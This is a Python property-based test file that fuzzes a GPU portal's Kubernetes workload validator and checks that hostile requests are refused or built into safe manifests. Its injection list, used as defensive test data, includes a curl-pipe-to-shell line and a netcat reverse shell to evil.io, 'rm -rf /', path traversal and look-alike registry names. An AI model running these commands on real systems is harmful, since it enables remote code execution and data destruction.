"""Hostile requests: each is refused with a SpecError or becomes manifests that are safe.

Hypothesis starts from a valid request of each kind and overwrites a few fields with
hostile values (long and unicode names, shell and template injection, reserved env vars
and label keys, look-alike registries, forbidden fields). Whatever validate_request lets
through must build objects that fit their schemas, keep the portal's labels, and hold
every pod to the restricted standard.
"""

from __future__ import annotations

import re
import string
from typing import Any

from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from jobs.kube.labels import KIND_LABEL, MANAGED_BY_LABEL, TEAM_LABEL, WORKLOAD_ID_LABEL
from jobs.kube.manifests import TORCH_RUNTIME_IMAGE, workload_objects
from jobs.specs import (
    FIELDS_BY_KIND,
    FORBIDDEN_FIELDS,
    KINDS,
    SpecError,
    parse_image,
    registry_allowed,
    reserved_env_reason,
    validate_request,
)
from tests.kube_schemas import is_core, reference_available, validate_any, validate_core
from tests.manifests.conftest import BASE_REQUESTS, OFFERINGS, REGISTRIES, TEAM
from tests.manifests.pods import pods_of
from tests.manifests.pss import assert_restricted

INJECTIONS = [
    "$(rm -rf /)",
    "`id`",
    "; curl evil.io | sh",
    "&& nc -e /bin/sh evil.io 4444",
    "${HOME}",
    "{{7*7}}",
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "\n",
    "a\nb",
    "\x00",
    "\u202e",
    "名前",
    "ümlaut",
    "a" * 300,
    "",
    " ",
    "true",
    "-",
    "x:y",
    "privileged: true",
    "hostPath: /",
    "gpu-portal.io/team",
    "app.kubernetes.io/managed-by",
    "scheduling.volcano.sh/queue-name",
    "kubeflow-resource-stopped",
    "NVIDIA_VISIBLE_DEVICES",
    "CUDA_VISIBLE_DEVICES",
    "PET_NNODES",
    "LD_PRELOAD",
]
IMAGES = [
    "nvcr.io/nvidia/pytorch:24.08-py3",
    "python:3.11",
    "evil.io/x:1",
    "nvcr.io.evil.io/x:1",
    "ghcr.io/kubeflowx/y:1",
    "ghcr.io/kubeflow/../evil:1",
    "localhost:5000/x:1",
    "docker.io/library/python@sha256:" + "a" * 64,
    "nvcr.io/nvidia/pytorch",
    "NVCR.io/nvidia/pytorch:1",
    "quay.io/jupyter/base-notebook:latest",
]

text = st.one_of(
    st.sampled_from(INJECTIONS),
    st.text(max_size=40),
    st.text(alphabet=string.printable, max_size=120),
    st.from_regex(r"[a-z][a-z0-9-]{0,70}", fullmatch=True),
)
scalar = st.one_of(text, st.integers(-5, 10**12), st.booleans(), st.none(), st.floats(allow_nan=True))
anything = st.one_of(scalar, st.lists(text, max_size=4), st.dictionaries(text, text, max_size=3))
label_key = st.one_of(
    text,
    st.sampled_from(
        [
            "project",
            "example.com/cost-center",
            "gpu-portal.io/workload-id",
            "kubernetes.io/x",
            "sub.kserve.io/x",
            "k8s.v1.cni.cncf.io/networks",
            "sidecar.istio.io/inject",
        ]
    ),
)
env_name = st.one_of(
    text,
    st.from_regex(r"[A-Z_][A-Z0-9_]{0,20}", fullmatch=True),
    st.sampled_from(["NVIDIA_DRIVER_CAPABILITIES", "CUDA_MPS_PIPE_DIRECTORY", "MASTER_ADDR", "RANK"]),
)

# Values that pass validation but carry hostile content (injection in env values, commands,
# annotations; odd but legal names and labels), so the builders see them too.
printable = st.text(alphabet=string.printable, max_size=80)
valid_text = st.one_of(st.sampled_from(INJECTIONS[:10]), printable)
valid_key = st.from_regex(r"([a-z]{1,10}\.[a-z]{2,5}/)?[A-Za-z0-9]([A-Za-z0-9._-]{0,20}[A-Za-z0-9])?", fullmatch=True)
valid_label_value = st.from_regex(r"([A-Za-z0-9]([A-Za-z0-9._-]{0,30}[A-Za-z0-9])?)?", fullmatch=True)
valid_env_name = st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,30}", fullmatch=True)

FIELD_VALUES: dict[str, st.SearchStrategy[Any]] = {
    "name": st.one_of(st.from_regex(r"[a-z]([a-z0-9-]{0,38}[a-z0-9])?", fullmatch=True), text),
    "image": st.one_of(st.sampled_from(IMAGES), st.builds(lambda a, b: a + b, st.sampled_from(IMAGES), text), text),
    "command": st.one_of(st.lists(valid_text, max_size=6), st.lists(valid_text, max_size=6), text, anything),
    "args": st.one_of(st.lists(valid_text, max_size=6), st.lists(valid_text, max_size=6), text, anything),
    "env": st.one_of(
        st.dictionaries(valid_env_name, valid_text, max_size=5), st.dictionaries(env_name, text, max_size=4), anything
    ),
    "labels": st.one_of(
        st.dictionaries(valid_key, valid_label_value, max_size=5),
        st.dictionaries(label_key, text, max_size=4),
        anything,
    ),
    "annotations": st.one_of(
        st.dictionaries(valid_key, valid_text, max_size=5), st.dictionaries(label_key, text, max_size=4), anything
    ),
    "offering": st.one_of(st.sampled_from(sorted(OFFERINGS)), text),
    "gpus_per_replica": st.one_of(st.integers(-1, 10), anything),
    "replicas": st.one_of(st.integers(-1, 20), anything),
    "min_replicas": st.one_of(st.integers(-1, 12), anything),
    "max_replicas": st.one_of(st.integers(-1, 12), anything),
    "cpu": st.one_of(st.sampled_from(["500m", "2", "1e3", "0.0001", "192", "193", "-1"]), anything),
    "memory": st.one_of(st.sampled_from(["8Gi", "1Ti", "3Ti", "100Mi", "8m", "1e9"]), anything),
    "storage_uri": st.one_of(
        st.builds(lambda s, p: f"{s}://{p}", st.sampled_from(["s3", "gs", "pvc", "hf", "https", "file", "ftp"]), text),
        anything,
    ),
    "model_format": st.one_of(st.sampled_from(["sklearn", "pytorch", "huggingface", "evil"]), anything),
    "framework": st.one_of(st.sampled_from(["torch", "mpi", "custom", "tensorflow"]), anything),
    "workspace_gib": st.one_of(st.integers(-1, 2000), anything),
    "stopped": st.one_of(st.booleans(), anything),
    "canary_traffic_percent": st.one_of(st.integers(-1, 101), anything),
    "max_runtime_seconds": st.one_of(st.integers(0, 10**7), anything),
}
ANY_KEY = st.one_of(
    st.sampled_from(sorted({f for fields in FIELDS_BY_KIND.values() for f in fields})),
    st.sampled_from(sorted(FORBIDDEN_FIELDS)),
    text,
)


@st.composite
def hostile_requests(draw) -> dict[str, Any]:
    kind = draw(st.sampled_from(KINDS))
    data: dict[str, Any] = dict(BASE_REQUESTS[kind])
    offering = draw(st.sampled_from(sorted(OFFERINGS)))
    data["offering"] = offering
    data["gpus_per_replica"] = 0 if OFFERINGS[offering].kind == "cpu" else 1
    own = [f for f in FIELDS_BY_KIND[kind] if f != "kind"]
    for _ in range(draw(st.integers(1, 4))):
        # Mostly the kind's own fields, so that hostile values reach the builders, and
        # sometimes any key at all (forbidden, unknown, injected).
        key = draw(st.one_of(st.sampled_from(own), st.sampled_from(own), st.sampled_from(own), ANY_KEY))
        data[key] = draw(FIELD_VALUES.get(key, anything))
    return data


ALLOWED_IMAGES = [
    "nvcr.io/nvidia/pytorch:24.08-py3",
    "python:3.11",
    "ghcr.io/kubeflow/x/y:v1.0_rc-1",
    "docker.io/library/python@sha256:" + "a" * 64,
    "quay.io/jupyter/base-notebook:" + "t" * 128,
]
GPU_CHOICES = {"gpu": st.integers(1, 8), "mig": st.just(1), "shared": st.just(1), "cpu": st.just(0)}


@st.composite
def accepted_hostile_requests(draw) -> dict[str, Any]:
    """Requests whose every field is legal, but whose content is as odd as legality allows."""
    kind = draw(st.sampled_from(KINDS))
    offering = draw(st.sampled_from(sorted(OFFERINGS)))
    data: dict[str, Any] = {
        "kind": kind,
        "name": draw(st.from_regex(r"[a-z]([a-z0-9-]{0,38}[a-z0-9])?", fullmatch=True)),
        "offering": offering,
        "gpus_per_replica": draw(GPU_CHOICES[OFFERINGS[offering].kind]),
        "image": draw(st.sampled_from(ALLOWED_IMAGES)),
        "command": draw(st.lists(valid_text, max_size=6)),
        "args": draw(st.lists(valid_text, max_size=6)),
        "env": draw(st.dictionaries(valid_env_name, valid_text, max_size=5)),
        "labels": draw(st.dictionaries(valid_key, valid_label_value, max_size=5)),
        "annotations": draw(st.dictionaries(valid_key, valid_text, max_size=5)),
        "cpu": draw(st.sampled_from(["100m", "2", "0.5", "192", "1.25"])),
        "memory": draw(st.sampled_from(["256Mi", "8Gi", "2Ti", "1G", "1.5Gi"])),
    }
    if kind == "notebook":
        data["workspace_gib"] = draw(st.none() | st.integers(1, 1024))
        data["stopped"] = draw(st.booleans())
    elif kind == "training":
        data["framework"] = draw(st.sampled_from(["torch", "mpi", "custom"]))
        data["replicas"] = draw(st.integers(1, 16))
        data["max_runtime_seconds"] = draw(st.none() | st.integers(60, 30 * 24 * 3600))
    else:
        low = draw(st.integers(0, 10))
        data["min_replicas"], data["max_replicas"] = low, draw(st.integers(max(low, 1), 10))
        data["canary_traffic_percent"] = draw(st.none() | st.integers(0, 100))
        if draw(st.booleans()):
            data["model_format"] = draw(st.sampled_from(["sklearn", "pytorch", "huggingface", "triton", "onnx"]))
            data["storage_uri"] = draw(
                st.sampled_from(
                    ["s3://b-1/x/y", "gs://b_2/$(x)", "pvc://c.d/e", "hf://o/m:rev", "https://e.example/a?b=c&d=$(id)"]
                )
            )
            data.pop("command")
        elif draw(st.booleans()):
            data["storage_uri"] = "s3://models/m"
    return data


PORTAL_KEYS = (MANAGED_BY_LABEL, TEAM_LABEL, WORKLOAD_ID_LABEL, KIND_LABEL)
DNS1123 = re.compile(r"[a-z0-9]([-a-z0-9]*[a-z0-9])?")
# What the builders set themselves: the notebook prefix, KServe's storage URI, torchrun's
# PET_* variables and mpirun's ssh arguments (user env may never name these).
PORTAL_ENV = {
    "NB_PREFIX",
    "STORAGE_URI",
    "PET_NNODES",
    "PET_NPROC_PER_NODE",
    "PET_NODE_RANK",
    "PET_MASTER_ADDR",
    "PET_MASTER_PORT",
    "MPI_HOST",
    "OMPI_MCA_plm_rsh_args",
    "PRTE_MCA_plm_ssh_args",
}


def check_request(data: dict[str, Any]) -> None:
    """Refused with readable errors, or built into objects that are safe and valid."""
    try:
        s = validate_request(data, team=TEAM, offerings=OFFERINGS, allowed_registries=REGISTRIES, workload_id=9)
    except SpecError as exc:
        event("refused")
        assert exc.errors
        assert all(
            isinstance(k, str) and msgs and all(isinstance(m, str) and m for m in msgs)
            for k, msgs in exc.errors.items()
        )
        return
    event(f"accepted {s.kind}")
    objects = workload_objects(s)
    for obj in objects:
        name = obj["metadata"]["name"]
        assert DNS1123.fullmatch(name) and len(name) <= 63
        assert obj["metadata"]["labels"][MANAGED_BY_LABEL] == "gpu-portal"
        assert obj["metadata"]["labels"][TEAM_LABEL] == "vision"
        assert obj["metadata"]["labels"][WORKLOAD_ID_LABEL] == "9"
        if is_core(obj):
            validate_core(obj)
        elif reference_available():
            validate_any(obj)
        for pod in pods_of(obj):
            assert_restricted(pod.spec, pod.annotations)
            validate_core(pod.as_object())
            assert all(pod.labels[k] == obj["metadata"]["labels"][k] for k in PORTAL_KEYS)
            for container in pod.spec["containers"]:
                image = container["image"]
                if image not in (TORCH_RUNTIME_IMAGE, "runtime-provided.example/server:1"):
                    assert registry_allowed(parse_image(image), REGISTRIES)
                for var in container.get("env", []):
                    assert var["name"] in PORTAL_ENV or reserved_env_reason(var["name"]) is None


@settings(max_examples=150, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(hostile_requests())
def test_a_hostile_request_is_refused_or_becomes_safe_manifests(data):
    check_request(data)


@settings(max_examples=150, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(accepted_hostile_requests())
def test_odd_but_legal_requests_become_valid_restricted_manifests(data):
    check_request(data)
